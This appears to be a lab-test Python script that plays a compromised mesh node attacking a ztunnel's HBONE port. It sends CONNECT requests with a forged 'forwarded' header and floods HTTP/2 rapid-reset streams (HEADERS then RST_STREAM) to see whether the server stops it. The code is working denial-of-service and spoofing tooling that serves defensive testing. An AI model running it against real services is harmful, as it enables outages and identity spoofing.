"""A misbehaving HBONE client for lab tests: run in a node's network namespace with a
certificate the mesh CA signed (what a compromised node holds), it speaks raw HTTP/2 to a
ztunnel's 15008 with h2, as an attacker would, not through weft's own client.

    hbone_attacker.py CERT KEY ROOTS SNI HOST connect TARGET [FORWARDED]
        prints the CONNECT's status (0: stream or connection refused)
    hbone_attacker.py CERT KEY ROOTS SNI HOST rapid-reset TARGET COUNT
        opens COUNT streams, each reset at once (HEADERS + RST_STREAM), then prints how the
        connection ended: "open", "goaway <code>" or "closed"
"""

from __future__ import annotations

import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events


def session(
    cert: str, key: str, roots: str, sni: str, host: str
) -> tuple[ssl.SSLSocket, h2.connection.H2Connection]:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.load_verify_locations(roots)
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, 15008), timeout=10), server_hostname=sni)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def connect(
    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, target: str, forwarded: str
) -> int:
    headers = [(":method", "CONNECT"), (":authority", target)]
    if forwarded:
        headers.append(("forwarded", forwarded))
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, headers)
    sock.sendall(conn.data_to_send())
    while True:
        data = sock.recv(65536)
        if not data:
            return 0
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                return int(dict(event.headers)[b":status"])
            if isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                return 0
        sock.sendall(conn.data_to_send())


def rapid_reset(
    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, target: str, count: int
) -> str:
    sock.settimeout(2)
    ended = "open"
    for i in range(count):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, [(":method", "CONNECT"), (":authority", target)])
        conn.reset_stream(stream_id)
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            return "closed"
        if i % 100 == 99:  # read what came back, as a real client's loop would
            sock.setblocking(False)
            try:
                while data := sock.recv(1 << 20):
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            return f"goaway {event.error_code}"
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                return "closed"
            except Exception:  # h2 refusing what a closing server sends
                return "closed"
            finally:
                sock.settimeout(2)
    return ended


def main() -> None:
    cert, key, roots, sni, host, mode, target, *rest = sys.argv[1:]
    sock, conn = session(cert, key, roots, sni, host)
    if mode == "connect":
        print(connect(sock, conn, target, rest[0] if rest else ""))
    elif mode == "rapid-reset":
        print(rapid_reset(sock, conn, target, int(rest[0])))
    else:
        raise SystemExit(f"unknown mode {mode!r}")
    sock.close()


if __name__ == "__main__":
    main()
